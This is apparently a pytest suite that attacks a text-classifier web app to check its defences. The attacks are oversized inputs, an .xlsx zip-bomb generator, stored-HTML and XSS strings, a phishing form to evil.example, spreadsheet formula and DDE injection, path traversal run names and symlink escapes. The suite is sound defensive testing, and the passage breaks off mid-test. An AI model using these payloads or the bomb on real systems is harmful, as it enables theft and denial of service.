"""Hostile and careless input (issue 17): each test performs one attack and checks that it is refused, bounded or
rendered harmless.

    1 a huge text to /predict and to Predictor; a batch file over its limits
    2 the quadratic one-line CSV, the 100,000-column CSV, the .xlsx bomb, a slow file holding up other visitors
    3 HTML and Markdown in run names, failed-run messages, labels, file names and chart labels
    4 exports: two apps zipping runs of the same name; exports never removed
    5 symbolic links inside a run folder (model zip, Evaluate tab)
    6 a run name that is not a run
    7 formulas in CSV files meant for spreadsheets
    8 deleting a run that another process (the command line, another app) is training
    11 failures that reached the page as a bare "Error" (a bad or 300-character run name, an edited
       predictions.csv, a bug): a message on the page, without the server's paths
    12 guessing the login's password
    13 uploads to the open demo

The big files are generated here, never committed; the small ones live in tests/bad_inputs/ (make.py hostile). The
model is a tiny random BERT (2 layers x 32) over the bundled MiniLM tokenizer: no training, a few MB.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import threading
import time
import zipfile
from pathlib import Path

import pytest

gr = pytest.importorskip("gradio")

HERE = Path(__file__).resolve().parent
BAD = HERE / "bad_inputs"
SMS = HERE.parent / "assets" / "sms_spam.tsv"
MAX_LENGTH = 64
FORM = '<form action=https://evil.example/steal><input type=password name=pw></form>'
LINK = '<a href="https://evil.example">click</a>'
IMG = "<img src=x onerror=alert(1)>"  # fits in a folder name (no slash)


# ---------------------------------------------------------------------------------------------------------------
# A tiny model, and runs made of it
# ---------------------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory) -> Path:
    """best/ of a run: a random 2-layer BERT classifier (safetensors) with the bundled MiniLM tokenizer."""
    import torch
    from transformers import AutoTokenizer, BertConfig, BertForSequenceClassification

    from classifier.backbones import bundled_path

    folder = tmp_path_factory.mktemp("tiny") / "best"
    tokenizer = AutoTokenizer.from_pretrained(bundled_path("all-MiniLM-L6-v2"))
    config = BertConfig(vocab_size=tokenizer.vocab_size, hidden_size=32, num_hidden_layers=2, num_attention_heads=2,
                        intermediate_size=64, max_position_embeddings=512, num_labels=2,
                        id2label={0: "ham", 1: "spam"}, label2id={"ham": 0, "spam": 1})
    torch.manual_seed(0)
    BertForSequenceClassification(config).save_pretrained(folder)
    tokenizer.save_pretrained(folder)
    (folder / "classifier.json").write_text(json.dumps({"max_length": MAX_LENGTH, "truncation": "head"}))
    return folder


def make_run(tiny_model: Path, name: str = "tiny", labels: list[str] | None = None, **settings) -> Path:
    """A run folder in $CLASSIFIER_HOME/runs holding the tiny model; `labels` renames the classes."""
    from classifier.runs import runs_root

    run = runs_root() / name
    shutil.copytree(tiny_model, run / "best")
    (run / "config.json").write_text(json.dumps({"model": "tiny", "data": "sms.csv"}))
    if labels:
        config = json.loads((run / "best" / "config.json").read_text())
        config["id2label"] = {str(i): name for i, name in enumerate(labels)}
        config["label2id"] = {name: i for i, name in enumerate(labels)}
        (run / "best" / "config.json").write_text(json.dumps(config))
    if settings:
        stored = json.loads((run / "best" / "classifier.json").read_text())
        (run / "best" / "classifier.json").write_text(json.dumps({**stored, **settings}))
    return run


def huge_text(chars: int) -> str:
    words = "free prize claim now call the number below to win a holiday "
    return (words * (chars // len(words) + 1))[:chars]


# ---------------------------------------------------------------------------------------------------------------
# 1. Bounded text size
# ---------------------------------------------------------------------------------------------------------------
def test_predict_api_refuses_a_10_mb_text_with_a_message(tiny_model):
    from classifier.webui.predict_tab import PREDICTORS, explain, explain_view, predict, predict_labels

    make_run(tiny_model)
    assert set(predict("Call now to claim your prize", "tiny")) == {"ham", "spam"}
    PREDICTORS._items.clear()
    started = time.perf_counter()
    for handler in (predict, explain):  # the API's two text endpoints
        with pytest.raises(gr.Error) as caught:
            handler(huge_text(10_000_000), "tiny")
        assert "10,000,000 characters" in caught.value.message and "CLASSIFIER_MAX_TEXT_CHARS" in caught.value.message
    # the page's views that follow a prediction stay empty: `predict`, started by the same text, says why (once)
    assert predict_labels(huge_text(10_000_000), "tiny") == ""
    assert explain_view(huge_text(10_000_000), "tiny") == (None, "")
    assert time.perf_counter() - started < 2  # refused before any tokenizer or model sees it
    assert not PREDICTORS._items  # no model was loaded for it


def test_the_text_limit_is_an_operator_setting(tiny_model, monkeypatch):
    from classifier import security
    from classifier.webui.predict_tab import predict

    for name in ("CLASSIFIER_MAX_TEXT_CHARS", "CLASSIFIER_MAX_REQUEST_CHARS", "CLASSIFIER_MAX_PREDICT_TEXTS",
                 "CLASSIFIER_LOAD_TIMEOUT"):
        monkeypatch.delenv(name, raising=False)
    assert (security.max_text_chars(), security.max_request_chars(), security.max_predict_texts(),
            security.load_timeout()) == (100_000, 50_000_000, 100_000, 120)
    make_run(tiny_model)
    assert predict(huge_text(100_000), "tiny")  # at the limit: answered
    monkeypatch.setenv("CLASSIFIER_MAX_TEXT_CHARS", "50")
    with pytest.raises(gr.Error, match="up to 50 characters"):
        predict(huge_text(51), "tiny")
    monkeypatch.setenv("CLASSIFIER_MAX_TEXT_CHARS", "lots")  # malformed: the default
    assert security.max_text_chars() == 100_000


class TokenizerSpy:
    """Wraps a tokenizer and records the length of every text it is given."""

    def __init__(self, tokenizer) -> None:
        self.tokenizer, self.seen = tokenizer, []

    def __call__(self, texts, *args, **kwargs):
        self.seen += [len(t) for t in ([texts] if isinstance(texts, str) else texts)]
        return self.tokenizer(texts, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self.tokenizer, name)


@pytest.mark.parametrize("truncation", ["head", "head+tail"])
def test_predictor_tokenizes_only_what_the_model_reads(tiny_model, tmp_path, truncation):
    """A 10 MB text costs what a short one does, and the tokens the model reads are those of the whole text."""
    import numpy as np
    import torch

    from classifier.encoding import encode_texts
    from classifier.predict import Predictor

    shutil.copytree(tiny_model, tmp_path / "run" / "best")
    predictor = Predictor(tmp_path / "run")
    predictor.truncation = truncation
    predictor.tokenizer = spy = TokenizerSpy(predictor.tokenizer)
    started = time.perf_counter()
    predictor.predict([huge_text(10_000_000)])
    assert time.perf_counter() - started < 5  # before: 8.6 s and +1.4 GB on 2 cores
    assert max(spy.seen) <= 2 * MAX_LENGTH * 20 + 1
    text = huge_text(60_000) + " and this is how it ends"
    whole = encode_texts([text], spy.tokenizer, MAX_LENGTH, truncation)
    with torch.inference_mode():
        expected = predictor.model(**spy.tokenizer.pad(whole, return_tensors="pt")).logits.numpy()
    assert np.allclose(predictor.predict_logits([text]), expected, atol=1e-5)


def test_chunked_runs_read_up_to_the_text_limit(tiny_model, tmp_path, monkeypatch):
    from classifier.predict import Predictor

    monkeypatch.setenv("CLASSIFIER_MAX_TEXT_CHARS", "3000")
    shutil.copytree(tiny_model, tmp_path / "run" / "best")
    predictor = Predictor(tmp_path / "run")
    predictor.truncation = "chunk"
    predictor.tokenizer = spy = TokenizerSpy(predictor.tokenizer)
    predictor.predict([huge_text(1_000_000)])
    assert max(spy.seen) == 3000


def write_texts(path: Path, texts: list[str]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text"])
        writer.writerows([t] for t in texts)
    return path


def test_batch_prediction_refuses_files_over_their_limits(tiny_model, tmp_path, monkeypatch):
    from classifier.webui.predict_tab import predict_file

    make_run(tiny_model)
    monkeypatch.setenv("CLASSIFIER_MAX_PREDICT_TEXTS", "10")
    monkeypatch.setenv("CLASSIFIER_MAX_TEXT_CHARS", "1000")
    monkeypatch.setenv("CLASSIFIER_MAX_REQUEST_CHARS", "5000")
    cases = {"many.csv": ([f"text {i}" for i in range(11)], "has 11 texts", "CLASSIFIER_MAX_PREDICT_TEXTS"),
             "long.csv": (["short", "x" * 1001], "text 2 has 1,001 characters", "CLASSIFIER_MAX_TEXT_CHARS"),
             "big.csv": (["x" * 900] * 6, "5,400 characters", "CLASSIFIER_MAX_REQUEST_CHARS")}
    for name, (texts, *says) in cases.items():
        with pytest.raises(gr.Error) as caught:
            predict_file(str(write_texts(tmp_path / name, texts)), "tiny")
        assert all(phrase in caught.value.message for phrase in says), caught.value.message
    output, preview = predict_file(str(write_texts(tmp_path / "fine.csv", ["x" * 900] * 5)), "tiny")
    assert len(preview) == 5


# ---------------------------------------------------------------------------------------------------------------
# 2. Tables that cost more than their size
# ---------------------------------------------------------------------------------------------------------------
def test_a_one_line_csv_of_quoted_fields_is_read_in_linear_time(tmp_path):
    """label,text then a,"x", "x", ... (400 KB): the delimiter sniffer took 85 s; now it sees 64 KB at most."""
    from classifier.data import read_table
    from classifier.errors import DataError

    path = tmp_path / "quoted.csv"
    path.write_text('label,text\na,"x"' + ', "x"' * 80_000 + "\n", encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(DataError, match="line\\(s\\) 2 have another number of columns"):
        read_table(path)
    assert time.perf_counter() - started < 3
    with pytest.raises(DataError, match="line\\(s\\) 2"):
        read_table(BAD / "one_line_quotes.csv")


def test_a_csv_of_100000_columns_is_refused_at_once(tmp_path):
    from classifier.data import read_table
    from classifier.errors import DataError

    path = tmp_path / "wide.csv"
    path.write_text("\n".join(",".join(f"{r}{i}" for i in range(100_000)) for r in "cab") + "\n")
    started = time.perf_counter()
    with pytest.raises(DataError, match="has 100,000 columns; at most 1,000 are read"):
        read_table(path)
    assert time.perf_counter() - started < 5  # the Data tab took 175 s
    with pytest.raises(DataError, match="has 1,001 columns"):
        read_table(BAD / "1001_columns.csv")


_XLSX_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.'
    'xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
    'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'worksheet+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def xlsx_bomb(path: Path, rows: int) -> Path:
    """An .xlsx whose one sheet holds `rows` identical rows, declares no size, and compresses a thousandfold."""
    def cells(*values: str) -> bytes:
        return b"<row>" + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % v.encode() for v in values) + b"</row>"

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _XLSX_PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>' + cells("text", "label"))
            for start in range(0, rows, 10_000):
                sheet.write(cells("win a prize now", "spam") * min(10_000, rows - start))
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_an_xlsx_bomb_is_refused_before_it_is_parsed(tmp_path, monkeypatch):
    """350 KB that expand to 100 MB of XML, a million rows: 54 s and +310 MB before; now its rows are counted in
    the compressed stream (no parsing) against the limit tied to CLASSIFIER_MAX_UPLOAD_MB."""
    from classifier.data import read_table
    from classifier.errors import DataError

    monkeypatch.delenv("CLASSIFIER_MAX_UPLOAD_MB", raising=False)
    bomb = xlsx_bomb(tmp_path / "bomb.xlsx", 1_000_000)
    assert bomb.stat().st_size < 1_000_000
    started = time.perf_counter()
    with pytest.raises(DataError, match="more than 500,000 rows"):
        read_table(bomb)
    assert time.perf_counter() - started < 10
    monkeypatch.setenv("CLASSIFIER_MAX_UPLOAD_MB", "1")  # 1 MB: 5,000 rows and 1 MB of sheet XML
    with pytest.raises(DataError, match="expands to 4 MB of spreadsheet data; this app reads at most 1 MB"):
        read_table(xlsx_bomb(tmp_path / "small_bomb.xlsx", 40_000))
    with pytest.raises(DataError, match="more than 5,000 rows"):
        read_table(xlsx_bomb(tmp_path / "rows.xlsx", 5_001))
    assert len(read_table(xlsx_bomb(tmp_path / "fine.xlsx", 4_999))) == 4_999
    (tmp_path / "fake.xlsx").write_text("text,label\na,b\n")
    with pytest.raises(DataError, match="not a valid .xlsx file"):
        read_table(tmp_path / "fake.xlsx")


def sleep_and_tell(seconds: float, pid_file: str) -> None:
    Path(pid_file).write_text(str(os.getpid()))
    time.sleep(seconds)


def test_a_worker_is_stopped_at_its_time_limit(tmp_path):
    from classifier.worker import TimeLimitExceeded, call_with_time_limit

    pid_file = tmp_path / "pid"
    started = time.perf_counter()
    with pytest.raises(TimeLimitExceeded, match="longer than 15 seconds"):
        # 15 s: the limit includes the worker's start, which a loaded machine delays (8 s was once not enough)
        call_with_time_limit(sleep_and_tell, 60, str(pid_file), seconds=15)
    assert time.perf_counter() - started < 45
    assert pid_file.exists(), "the worker never started"
    with pytest.raises(ProcessLookupError):
        os.kill(int(pid_file.read_text()), 0)  # killed, not left running


def test_data_loading_runs_in_a_worker_with_a_time_limit(monkeypatch):
    from classifier.errors import DataError
    from classifier.webui.analysis import analyse_bounded

    info, preview = analyse_bounded(SMS, sample="sms")
    assert info.rows_used > 4000 and len(preview) == 30
    with pytest.raises(DataError, match="one_class.csv has a single class"):  # the child's message comes back
        analyse_bounded(BAD / "one_class.csv")
    monkeypatch.setenv("CLASSIFIER_LOAD_TIMEOUT", "0.01")
    with pytest.raises(DataError, match="took longer than 0.01 seconds, so it was stopped"):
        analyse_bounded(SMS, sample="sms")


def test_one_visitor_at_a_time_per_session_and_visitors_side_by_side():
    from classifier.webui.common import one_at_a_time

    spans: dict[str, list[tuple[float, float]]] = {"a": [], "b": []}

    def event(session: str) -> None:
        with one_at_a_time(gr.Request(session_hash=session)):
            start = time.perf_counter()
            time.sleep(0.3)
            spans[session].append((start, time.perf_counter()))

    threads = [threading.Thread(target=event, args=(s,)) for s in ("a", "a", "b")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    (a1, a2), (b,) = sorted(spans["a"]), spans["b"]
    assert a1[1] <= a2[0]  # the same visitor's events one after the other
    assert b[0] < a1[1]  # another visitor's beside them


def test_data_events_do_not_share_one_slot_for_all_visitors():
    from classifier.webui import build_app
    from classifier.webui.data_tab import DATA_CONCURRENCY

    data = [fn for fn in build_app().fns.values() if fn.concurrency_id == "data"]
    assert {"load_file", "load_sms_sample", "load_news_sample"} <= {fn.api_name for fn in data}
    assert DATA_CONCURRENCY > 1 and {fn.concurrency_limit for fn in data} == {DATA_CONCURRENCY}


# ---------------------------------------------------------------------------------------------------------------
# 3. Stored HTML
# ---------------------------------------------------------------------------------------------------------------
def render_markdown(text: str) -> str:
    """Markdown as a browser would get it, raw HTML allowed (the worst case for us)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_a_failed_run_message_with_a_form_is_shown_as_text(tmp_path):
    """The model box holds a <form>; the run fails with 'Model folder ‹…› does not exist.'; every later visitor
    of the Train tab saw a password form."""
    from classifier.webui.runner import TrainingRunner
    from classifier.webui.train_tab import status_markdown

    run = tmp_path / "runs" / f"20260101-000000-{IMG}"  # a run name made by hand, not by the app
    run.mkdir(parents=True)
    message = f"Model folder ‹{FORM}› does not exist."
    (run / "events.jsonl").write_text(json.dumps({"type": "status", "status": "failed", "message": message}) + "\n")
    page = render_markdown(status_markdown(TrainingRunner(root=tmp_path / "runs").view(run), "en"))
    assert "<form" not in page and "<input" not in page and "<img" not in page
    assert "&lt;form action=https://evil.example/steal&gt;" in page and "&lt;img src=x" in page


def test_every_markdown_view_escapes_what_users_and_files_supply(tmp_path, tiny_model):
    from classifier.webui import common, evaluate_tab
    from classifier.webui.analysis import DataInfo
    from classifier.webui.data_tab import summary_markdown, warnings_markdown
    from classifier.webui.predict_tab import predict_labels

    assert evaluate_tab.md_escape is common.md_escape  # one helper, in common.py
    info = DataInfo(path="x", name=f"{LINK}.csv", sample=None, columns=["text", "label"], text_column="text",
                    label_column="label", language="latin", model=FORM, rows_read=3, rows_used=3,
                    class_counts={LINK: 2, "b": 1}, splits={"train": 1, "validation": 1, "test": 1},
                    warnings=[f"{FORM}.csv: some labels differ only in case ({LINK} / **B**)"])
    metrics = {"model": FORM, "samples": 3, "accuracy": 1.0, "macro_f1": 1.0, "weighted_f1": 1.0,
               "advice": [{"key": "nonexistent", "text": f"Look at {LINK}"}]}
    make_run(tiny_model, "ml", labels=[LINK, FORM], multi_label=True, thresholds=[0.0, 0.0])
    views = [summary_markdown(info, "en"), warnings_markdown(info, "en"), evaluate_tab.headline(metrics, "en"),
             predict_labels("some text", "ml")]
    for view in views:
        page = render_markdown(view)
        assert "<form" not in page and "<a " not in page and "<input" not in page, page
    assert "&lt;form" in render_markdown(views[3]) and "&lt;a href" in render_markdown(views[3])


def test_error_toasts_escape_the_engine_message():
    from classifier.errors import DataError
    from classifier.webui.common import shows_errors

    @shows_errors
    def handler():
        raise DataError(f"File {FORM}.csv is empty.")

    with pytest.raises(gr.Error) as caught:
        handler()
    assert "<form" not in caught.value.message and "&lt;form action" in caught.value.message


def test_chart_labels_are_text_not_links():
    from classifier import charts

    for figure in (charts.class_counts({LINK: 3, "ham": 2}), charts.confusion_matrix([LINK, "b"], [[1, 0], [0, 1]]),
                   charts.per_label_confusion({LINK: {"tp": 1, "fn": 0, "fp": 0, "tn": 1}})):
        shown = json.dumps(figure.to_plotly_json()["data"])
        assert "<a " not in shown and "&lt;a href=" in shown


# ---------------------------------------------------------------------------------------------------------------
# 4. Exported files (model zips, batch predictions)
# ---------------------------------------------------------------------------------------------------------------
def model_run(home: Path, name: str, weights: bytes) -> Path:
    run = home / "runs" / name
    (run / "best").mkdir(parents=True)
    (run / "best" / "config.json").write_text("{}")
    (run / "best" / "model.safetensors").write_bytes(weights)
    return run


def test_two_apps_never_share_an_export_and_old_exports_are_removed(tiny_model, tmp_path, monkeypatch):
    """Two instances (other CLASSIFIER_HOME) zip a run of the same name: before, both wrote
    <tmp>/text-classifier-studio/NAME-best.zip and the second served the first one's model, and nothing was ever
    removed. Now each export has a folder of its own under $GRADIO_TEMP_DIR/exports, and old ones go at the next."""
    from classifier.webui import exports
    from classifier.webui.predict_tab import predict_file
    from classifier.webui.runs_tab import zip_model

    root = tmp_path / "gradio" / "exports"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "gradio"))
    zips = []
    for home, weights in ((tmp_path / "home-a", b"model of A"), (tmp_path / "home-b", b"model of B")):
        monkeypatch.setenv("CLASSIFIER_HOME", str(home))
        zips.append((zip_model(model_run(home, "20260101-000000-same", weights)), weights))
    (first, _), (second, _) = zips
    assert first.parent != second.parent
    assert first.name == second.name == "20260101-000000-same-best.zip"  # a readable name, in a folder of its own
    for archive, weights in zips:
        assert archive.parent.parent == root
        assert zipfile.ZipFile(archive).read("best/model.safetensors") == weights
        assert archive.parent.stat().st_mode & 0o077 == 0  # private to the app's user
    assert zip_model(tmp_path / "home-b" / "runs" / "20260101-000000-same") == second  # same model: same zip
    make_run(tiny_model)  # in home-b
    csv_a, _ = predict_file(str(write_texts(tmp_path / "texts.csv", ["hello", "win a prize"])), "tiny")
    csv_b, _ = predict_file(str(write_texts(tmp_path / "texts.csv", ["hello", "win a prize"])), "tiny")
    assert Path(csv_a).parent.parent == root and Path(csv_a).parent != Path(csv_b).parent
    assert Path(csv_a).name == "texts.tiny.predictions.csv"

    # an export older than EXPORT_MAX_AGE goes at the next export; a young one stays
    old = time.time() - exports.EXPORT_MAX_AGE - 10
    os.utime(first.parent, (old, old))
    exports.new_export("next.csv")
    assert not first.parent.exists() and second.is_file() and Path(csv_a).is_file()
    # beyond the EXPORT_KEEP newest, those older than EXPORT_GRACE go as well; younger ones stay, however many
    many = [exports.new_export(f"{i}.csv") for i in range(exports.EXPORT_KEEP + 3)]
    aged = time.time() - exports.EXPORT_GRACE - 10
    for path in many[:4]:
        os.utime(path.parent, (aged, aged))
    exports.purge_exports()
    assert not any(path.parent.exists() for path in many[:4])
    assert all(path.parent.is_dir() for path in many[4:]) and second.is_file()
    assert len(list(root.iterdir())) == 1 + 2 + 1 + len(many) - 4  # second zip, two CSVs, next.csv, the young


# ---------------------------------------------------------------------------------------------------------------
# 5. Symbolic links inside a run folder
# ---------------------------------------------------------------------------------------------------------------
def test_the_model_zip_leaves_out_links_that_lead_outside_the_run(tmp_path):
    from classifier.errors import RunError
    from classifier.webui.runs_tab import zip_model

    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "passwd").write_text("root:x:0:0")
    run = tmp_path / "runs" / "20260101-000000-links"
    best = run / "best"
    best.mkdir(parents=True)
    (best / "config.json").write_text("{}")
    (best / "model.safetensors").write_bytes(b"weights")
    (run / "notes.txt").write_text("inside the run")
    (best / "passwd.txt").symlink_to(secret / "passwd")
    (best / "secrets").symlink_to(secret, target_is_directory=True)
    (best / "notes.txt").symlink_to(run / "notes.txt")  # a link that stays inside the run is fine
    names = zipfile.ZipFile(zip_model(run)).namelist()
    assert sorted(names) == ["best/", "best/config.json", "best/model.safetensors", "best/notes.txt"]
    elsewhere = tmp_path / "runs" / "20260101-000001-linked-best"
    elsewhere.mkdir()
    (elsewhere / "best").symlink_to(best, target_is_directory=True)
    with pytest.raises(RunError, match="link to a folder outside the run"):
        zip_model(elsewhere)


def test_the_evaluate_tab_does_not_read_links_that_lead_outside_the_run(tmp_path):
    from classifier.runs import runs_root
    from classifier.webui import evaluate_tab

    outside = tmp_path / "elsewhere.csv"
    outside.write_text("text,gold,predicted,confidence\nsecret row,a,b,0.9\n")
    run = runs_root() / "20260101-000000-links"
    run.mkdir(parents=True)
    (run / "metrics.json").write_text(json.dumps({"model": "m", "samples": 1, "accuracy": 0.0, "macro_f1": 0.0,
                                                  "weighted_f1": 0.0, "labels": ["a", "b"],
                                                  "confusion_matrix": [[0, 1], [0, 0]], "per_class": {}}))
    (run / "predictions.csv").symlink_to(outside)
    with gr.Blocks():
        tab = evaluate_tab.build(gr.Textbox("en"))
    with pytest.raises(gr.Error, match="predictions.csv is a link to a file outside the run"):
        tab.load(run.name, "counts", "en")
    (run / "predictions.csv").unlink()
    (run / "metrics.json").rename(tmp_path / "metrics.json")
    (run / "metrics.json").symlink_to(tmp_path / "metrics.json")
    with pytest.raises(gr.Error, match="metrics.json is a link to a file outside the run"):
        tab.load(run.name, "counts", "en")


# ---------------------------------------------------------------------------------------------------------------
# 6. A run name that is not a run
# ---------------------------------------------------------------------------------------------------------------
def test_an_unknown_run_is_an_error_not_another_runs_answer(tiny_model):
    from classifier.webui.predict_tab import predict

    make_run(tiny_model, "newest")
    assert set(predict("hello", "")) == {"ham", "spam"}  # no name: the newest run
    assert set(predict("hello", None)) == {"ham", "spam"}
    for name in ("no-such-run", "~", "%2e%2e", "42"):
        with pytest.raises(gr.Error, match=f"There is no run named '{name}'"):
            predict("hello", name)
    with pytest.raises(gr.Error, match="is not a run name"):
        predict("hello", "../newest")


# ---------------------------------------------------------------------------------------------------------------
# 7. Formulas in CSV files for spreadsheets
# ---------------------------------------------------------------------------------------------------------------
def test_batch_predictions_csv_starts_no_formula(tiny_model):
    from classifier.webui.predict_tab import predict_file

    make_run(tiny_model, labels=["=ham", "-1"])
    output, _ = predict_file(str(BAD / "formula_texts.csv"), "tiny")
    with open(output, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    texts = [row["text"] for row in rows]
    assert texts[:2] == ["'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "'=cmd|' /C calc'!A0"]
    assert all(t[0] not in "=+-@\t\r" for t in texts if t != "-1") and "-1" in texts  # a plain number stays
    assert {row["label"] for row in rows} <= {"'=ham", "-1"}
    assert "p_=ham" in rows[0]  # a header that starts with p_ cannot start a formula


def test_spreadsheet_safe_neutralises_every_formula_start():
    import pandas as pd

    from classifier.security import spreadsheet_safe

    frame = pd.DataFrame({"text": ["=1+1", "+1+x", "-x", "@SUM(A1)", "\tx", "\rx", "ok", "-1", "+2.5e3"],
                          "p_a": [0.5] * 9, "correct": [True] * 9})
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist() == ["'=1+1", "'+1+x", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "ok", "-1", "+2.5e3"]
    assert safe["p_a"].tolist() == [0.5] * 9 and safe["correct"].tolist() == [True] * 9
    assert frame["text"][0] == "=1+1"  # a copy: the caller's frame is unchanged


def test_run_predictions_csv_starts_no_formula(tmp_path):
    """RUN/predictions.csv (classifier.training.write_predictions_table) is opened in spreadsheets too."""
    import numpy as np

    from classifier.task import SINGLE_LABEL
    from classifier.training import write_predictions_table

    write_predictions_table(tmp_path, ["=cmd|' /C calc'!A0", "@SUM(1)"], np.array([0, 1]), np.array([0, 0]),
                            np.array([[0.9, 0.1], [0.6, 0.4]]), ["=a", "b"], SINGLE_LABEL)
    with open(tmp_path / "predictions.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["text"] for row in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(1)"]
    assert rows[0]["gold"] == "'=a"


# ---------------------------------------------------------------------------------------------------------------
# 8. Deleting a run that the command line trains
# ---------------------------------------------------------------------------------------------------------------
def runs_tab_handlers() -> dict:
    from classifier.webui import runs_tab

    with gr.Blocks() as demo:
        runs_tab.build(gr.Textbox("en"))
    return {fn.fn.__name__: fn.fn for fn in demo.fns.values() if fn.fn is not None}


def test_a_run_that_another_process_trains_is_not_deleted(tmp_path):
    """Before, the delete guard knew only the runs this app launched: a run that `python -m classifier train` was
    training in a terminal (or another instance of the app) was deleted under it. Now the run folder says: the
    last status is a training one and its process is alive, or RUN/trainer.pid names a live trainer."""
    import subprocess

    from classifier.errors import RunError
    from classifier.runs import delete_run, runs_root, training_pid

    handlers = runs_tab_handlers()
    cli_run, app_run = runs_root() / f"20260101-000000-cli{IMG}", runs_root() / "20260101-000001-app"
    for run in (cli_run, app_run):
        run.mkdir(parents=True)
        (run / "config.json").write_text("{}")
    trainer = subprocess.Popen(["sleep", "60"])  # stands for the training process
    try:
        # what `classifier train` writes: a status event with its pid (no trainer.pid: only the app writes one)
        (cli_run / "events.jsonl").write_text(json.dumps({"time": "2026-01-01T00:00:00", "type": "status",
                                                          "status": "running", "pid": trainer.pid}) + "\n")
        # a trainer that the app (or another instance) launched, before its first event
        (app_run / "trainer.pid").write_text(str(trainer.pid))
        for run in (cli_run, app_run):
            assert training_pid(run) == trainer.pid
            for handler in ("ask_delete", "really_delete"):
                with pytest.raises(gr.Error) as refused:
                    handlers[handler](run.name, "en")
                message = str(refused.value.message)
                assert f"still training (process {trainer.pid}" in message and "not deleted" in message
                if run is cli_run:
                    assert "<img" not in message and "&lt;img" in message  # the name is shown as text
            with pytest.raises(RunError, match=f"still training \\(process {trainer.pid}\\)"):
                delete_run(run)
            assert run.is_dir()
        with pytest.raises(gr.Error, match="仍在训练"):
            handlers["ask_delete"](app_run.name, "zh-CN")
    finally:
        trainer.kill()
        trainer.wait()  # reaped: a zombie would still answer kill(pid, 0)
    for run in (cli_run, app_run):
        assert training_pid(run) is None
        handlers["ask_delete"](run.name, "en")
        handlers["really_delete"](run.name, "en")
        assert not run.exists()


# ---------------------------------------------------------------------------------------------------------------
# 11. Every failure reaches the page as a message, without the server's paths
# ---------------------------------------------------------------------------------------------------------------
def handlers_of(demo) -> list:
    return [block_fn for block_fn in demo.fns.values() if block_fn.fn is not None]


def handler_on(demo, elem_id: str):
    """The function of the event that the component with this elem_id triggers (a lambda included)."""
    ids = {id_ for id_, block in demo.blocks.items() if getattr(block, "elem_id", None) == elem_id}
    found = [fn.fn for fn in handlers_of(demo) if any(target in ids for target, _ in fn.targets)]
    assert len(found) == 1, (elem_id, found)
    return found[0]


def page_error(call, *args) -> str:
    """The message of the gr.Error a handler raises (what the page shows)."""
    with pytest.raises(gr.Error) as shown:
        call(*args)
    message = str(shown.value.message)
    assert "/" + "tmp" not in message and str(Path.cwd()) not in message, message  # no absolute server path
    return message


def test_every_event_handler_of_every_tab_shows_its_failures(monkeypatch):
    """Gradio answers a handler's unexpected exception with {"error": null} (show_error is off): the page said
    "Error" and the reason was in the server's log only. Every registered function, lambdas and Timer ticks
    included, is wrapped by common.shows_errors, in the full app and in the demo."""
    from classifier.webui.app_builder import build_app

    for demo_mode in ("", "1"):
        monkeypatch.setenv("CLASSIFIER_DEMO", demo_mode)
        handlers = handlers_of(build_app())
        assert len(handlers) >= (40 if not demo_mode else 10)
        unwrapped = [f"{fn.fn.__name__} ({fn.api_name})" for fn in handlers if not getattr(fn.fn, "shows_errors", 0)]
        assert not unwrapped, unwrapped


def test_a_bug_in_a_handler_is_a_short_message_on_the_page_and_a_traceback_in_the_log(monkeypatch, caplog):
    from classifier.runs import runs_root
    from classifier.webui import evaluate_tab
    from classifier.webui.app_builder import build_app

    (runs_root() / "r").mkdir(parents=True)
    (runs_root() / "r" / "metrics.json").write_text("{}")

    def broken(run_dir, lang):
        raise RuntimeError(f"<b>boom</b> in {run_dir / 'events.jsonl'} and /srv/private/secret.key\nsecond line")

